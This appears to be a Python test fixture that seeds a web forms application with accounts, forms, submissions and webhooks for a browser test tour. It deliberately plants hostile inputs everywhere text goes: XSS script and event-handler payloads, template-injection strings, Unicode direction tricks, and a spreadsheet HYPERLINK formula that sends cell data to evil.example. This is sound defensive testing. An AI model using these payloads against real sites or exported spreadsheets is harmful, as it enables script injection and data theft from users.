"""The world that the tour goes through, made over HTTP as people would: nobody else's words in it are harmless.

What visitors and owners could type to break a page stands in it everywhere that text goes.
"""

import re
import time

import httpx
import pyotp

from tests.browser.tour import World
from tests.people import PASSWORD, Browser

OPERATOR = "operator@example.com"  # the site's ADMIN_EMAIL: who follows the link mailed there is its operator
WAIT_SECONDS = 120  # for a mail, on a busy machine: a worker sends it

WORD = "W" * 10_000  # no line of a page is as long
HOSTILE = {
    "script": "</title></textarea><script>window.ran = 1</script><img src=x onerror='window.ran = 1'>",
    "attribute": "\"' autofocus onfocus='window.ran = 1' x=\"",
    "template": "{{ 7 * 7 }} {% raw %} ${window.ran = 1}",
    "right to left": "\u202ereverse\u202c \u2067isolate\u2069 العربية עברית \u200f",
    "zero width": "zero\u200bwidth\u200djoined\u2060\ufeff",
    "emoji": "👩‍👩‍👧‍👦🏳️‍🌈🧑🏿‍🚀" * 40,
    "marks": "Z̸̢̛͍͈̗̳͇̦̻̯̟̱̪͙̗̾͑̽̍͂͒̓̊̃̕͝a̸l̸g̸o̸" * 20,
    "word": WORD,
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"more")',
}
LINE = HOSTILE["script"][:95]  # where a hundred characters are the most
PRINTED = {name: "".join(filter(str.isprintable, text)).strip()[:200] for name, text in HOSTILE.items()}  # for labels
FIELDS = [
    {"name": "name", "label": "Your name", "type": "text", "required": True},
    {"name": "email", "label": "Your e-mail address", "type": "email", "help": "We answer there."},
    {"name": "phone", "label": "Telephone", "type": "phone"},
    {"name": "site", "label": "Your website", "type": "url"},
    {
        "name": "topic",
        "label": "What is it about?",
        "type": "choice",
        "required": True,
        "options": [{"value": "order", "label": "An order"}, {"value": "other", "label": "Something else"}],
    },
    {
        "name": "country",
        "label": "Where do you live?",
        "type": "choice",
        "options": [{"value": f"c{n}", "label": f"Country {n}"} for n in range(9)],
    },
    {
        "name": "days",
        "label": "Which days suit you?",
        "type": "choices",
        "options": [{"value": "sat", "label": "Saturdays"}, {"value": "sun", "label": "Sundays"}],
        "starts_page": "When",
    },
    {"name": "guests", "label": "How many of you?", "type": "integer", "min": 1, "max": 8},
    {"name": "budget", "label": "Budget in euros", "type": "number"},
    {"name": "date", "label": "From which day on?", "type": "date"},
    {"name": "hour", "label": "At what time?", "type": "time"},
    {"name": "message", "label": "Your message", "type": "long_text", "required": True, "starts_page": "The rest"},
    {"name": "news", "label": "Send me news", "type": "checkbox"},
    {"name": "terms", "label": "I agree to the terms", "type": "consent", "required": True},
    {"name": "campaign", "label": "Campaign", "type": "hidden", "default": "autumn"},
]
SENT = {
    "name": "Grace Hopper",
    "email": "grace@example.com",
    "phone": "+44 20 7946 0000",
    "site": "https://example.com/about",
    "topic": "order",
    "days": ["sat", "sun"],
    "guests": 2,
    "budget": 120.5,
    "date": "2026-12-24",
    "hour": "09:30",
    "message": "Dear all,\n\nI would like to order twelve cups, and read https://example.com/cups first.\n\nGrace",
    "news": "on",
    "terms": "on",
}
HOSTILE_FIELDS = [
    {"name": f"field {LINE}"[:100], "label": HOSTILE["script"], "help": HOSTILE["attribute"], "type": "text"},
    {"name": HOSTILE["attribute"][:100], "label": "W" * 200, "type": "long_text", "help": "H" * 400},
    {
        "name": "choice",
        "label": PRINTED["right to left"],
        "type": "choice",
        "options": [{"value": LINE, "label": HOSTILE["script"]}, {"value": "w", "label": "W" * 200}],
    },
    {
        "name": "select",
        "label": PRINTED["marks"],
        "type": "choice",
        "options": [{"value": f"{n}", "label": f"{n}{LINE}{'W' * 90}"} for n in range(8)],
    },
    {
        "name": "days",
        "label": PRINTED["emoji"],
        "type": "choices",
        "options": [{"value": "w", "label": "W" * 200}],
    },
]


class Member(Browser):
    """Somebody with an account, over HTTP: a browser that fills in pages, and a program with a token."""

    def __init__(self, site: str, name: str, email: str = "", password: str = PASSWORD, *, there: bool = False) -> None:
        """Make the account, unless it is `there`."""
        super().__init__(base_url=site, timeout=60)
        self.name, self.email, self._password = name, email or f"{name}@example.com", password
        if not there:
            told = {"username": name, "email": self.email, "password": password}
            self.id = self.makes("/v1/accounts", told)["id"]
        self.sign_in()
        token = self.makes("/v1/tokens", {"username": name, "password": password, "name": "tour"})["token"]
        self.headers["authorization"] = f"Bearer {token}"

    def sign_in(self) -> httpx.Response:
        return self.fill("/sign-in", {"username": self.name, "password": self._password})

    @property
    def site(self) -> str:
        return str(self.base_url).rstrip("/")

    def form(self, name: str, **told: object) -> str:
        return self.makes("/v1/forms", {"name": name, **told})["id"]

    def makes(self, path: str, told: object) -> dict[str, str]:
        answer = self.post(path, json=told)
        assert answer.status_code < 300, answer.text
        return dict(answer.json())

    def mailed(self, path: str) -> str:
        """Return the token in the newest mail to this person that links to the path, once it has come."""
        return mailed(self.site, self.email, path)


def mailed(site: str, address: str, path: str) -> str:
    link = re.compile(re.escape(path) + r"\?token=([^\s<>\"&]+)")
    until = time.monotonic() + WAIT_SECONDS
    while time.monotonic() < until:
        for mail in httpx.get(f"{site}/_local/mail.json", timeout=30).json()["mails"]:
            if address in mail["to"] and (found := link.search(mail["text"])):
                return found[1]
        time.sleep(0.1)
    raise AssertionError(f"No mail to {address} links to {path}.")


def prepare(site: str) -> World:
    """Make the world on a site without data."""
    owner, second = Member(site, "ada", OPERATOR), Member(site, "second")
    owner.fill(f"/verify-email?token={owner.mailed('/verify-email')}", {"token": owner.mailed("/verify-email")})
    told = {"notify": {"to": [OPERATOR, "clerk@example.com"]}, "appearance": {"accent": "#1f6e45"}}
    form = owner.form("Orders and questions", fields=FIELDS, **told)
    empty, hostile = owner.form("Guest book"), hostile_form(owner)
    news = owner.form("News", autoresponse={"enabled": True, "double_opt_in": True})
    submissions = _submissions(owner, form, hostile)
    _send(owner, news, {"email": "reader@example.com"})
    hook = _webhooks(owner, form)
    viewer = _viewer(owner, form)
    owner.makes(f"/v1/forms/{form}/invitations", {"email": "clara@example.com", "role": "editor"})
    second.fill("/reset-password", {"username": "second"})
    people = {"owner": owner, "second": second, "viewer": viewer, "pending": pending(site)}
    known = {
        "path": "site.css",
        "file": "accent.css",
        "form_id": form,
        "empty_form_id": empty,
        "hostile_form_id": hostile,
        "account_id": owner.id,
        "second_account_id": second.id,
        "webhook_id": hook,
        "verify_token": second.mailed("/verify-email"),
        "reset_token": second.mailed("/reset-password"),
        "invitation_token": mailed(site, "clara@example.com", "/invitations"),
        "recipient_token": mailed(site, "clerk@example.com", "/recipients"),
        "opt_in_form_id": news,
        "opt_in_token": mailed(site, "reader@example.com", f"/f/{news}/confirm"),
        "unsubscribe_token": owner.mailed("/unsubscribe"),
    }
    cookies = {who: dict(person.cookies) for who, person in people.items()}
    for person in people.values():
        person.close()
    return World(site, known | submissions, {"visitor": {}, **cookies})


def hostile_form(owner: Member) -> str:
    """Make a form whose every word that its owner may choose is hostile."""
    told = {
        "fields": HOSTILE_FIELDS,
        "thanks": {"title": HOSTILE["script"], "text": " ".join(HOSTILE.values())[:2000]},
        "notify": {"subject": HOSTILE["script"]},
        "spam": {"blocked_words": [f"never {LINE}"[:100], "<b>" * 33]},
    }
    return owner.form(LINE, **told)


def _submissions(owner: Member, form: str, hostile: str) -> dict[str, str]:
    """Send what fills more than a page of the inbox, and every folder; return ids of three that are worth a look."""
    nested = {"list": [*HOSTILE.values()], "nested": {HOSTILE["attribute"]: {"deeper": [HOSTILE["script"], 1.10]}}}
    planted = {**SENT, "name": HOSTILE["script"], "message": "\n".join(HOSTILE.values()), **nested}
    planted |= {f"{name} {HOSTILE['attribute']}"[:100]: text for name, text in HOSTILE.items()}
    _send(owner, form, planted)  # of this one there is a mail; those that follow are too many in a minute
    for n in range(24):
        _send(owner, form, SENT | {"name": f"Guest {n}", "email": f"guest{n}@example.com", "message": f"Cup {n}"})
    long = _send(owner, form, SENT)
    spam = _send(owner, form, SENT | {"_gotcha": "https://example.net", "message": "cheap pills " * 20})
    archived = _send(owner, form, SENT | {"name": "Put away"})
    owner.patch(f"/v1/forms/{form}/submissions/{archived}", json={"folder": "archive"})
    _send(owner, hostile, {**HOSTILE, **nested})
    worst = _send(owner, form, planted)
    remarks = {"tags": [PRINTED["script"][:40], "W" * 40], "note": " ".join(PRINTED.values())}
    answer = owner.patch(f"/v1/forms/{form}/submissions/{worst}", json=remarks)
    assert answer.status_code == 200, answer.text
    return {"submission_id": long, "spam_id": spam, "hostile_id": worst}


def _send(owner: Member, form: str, told: dict[str, object]) -> str:
    """Send a form, with headers that are as hostile as headers can be; return the submission's id."""
    headers = {
        "user-agent": HOSTILE["script"] + "W" * 300,
        "referer": f"http://example.com/{HOSTILE['script'].replace(' ', '')}{'w' * 500}",
        "accept-language": HOSTILE["attribute"],
    }
    answer = httpx.post(f"{owner.site}/f/{form}", json=told, headers=headers, timeout=60)
    assert answer.status_code == 200, answer.text
    return str(answer.json()["id"])


def _webhooks(owner: Member, form: str) -> str:
    """Make one that works and one that never does; return the id of the first."""
    receiver = f"http://127.0.0.1:{owner.base_url.port}/_local/receiver"
    works = owner.makes(f"/v1/forms/{form}/webhooks", {"url": receiver})["id"]
    fails = owner.makes(f"/v1/forms/{form}/webhooks", {"url": f"{receiver}/full?{'w' * 300}", "rename": {"name": LINE}})
    for hook in (works, fails["id"]):
        owner.post(f"/v1/forms/{form}/webhooks/{hook}/test")
    return works


def _viewer(owner: Member, form: str) -> Member:
    viewer = Member(owner.site, "viola")
    owner.makes(f"/v1/forms/{form}/invitations", {"email": viewer.email, "role": "viewer"})
    token = viewer.mailed("/invitations")
    viewer.fill(f"/invitations?token={token}", {"token": token}, to="/invitations")
    return viewer


def pending(site: str) -> Member:
    """Return somebody who has typed their password, and has yet to type the code of their app."""
    person = Member(site, "patience")
    page = "/account/second-factor"
    person.fill(page, {"do": "begin"})
    key = re.search(r'<code id="key">([^<]+)', person.get(page).text)
    assert key, "The page of the second factor shows no key."
    person.fill(page, {"do": "confirm", "code": pyotp.TOTP("".join(key[1].split())).now()})
    person.cookies.clear()
    assert person.sign_in().headers["location"].startswith("/sign-in/code")
    return person
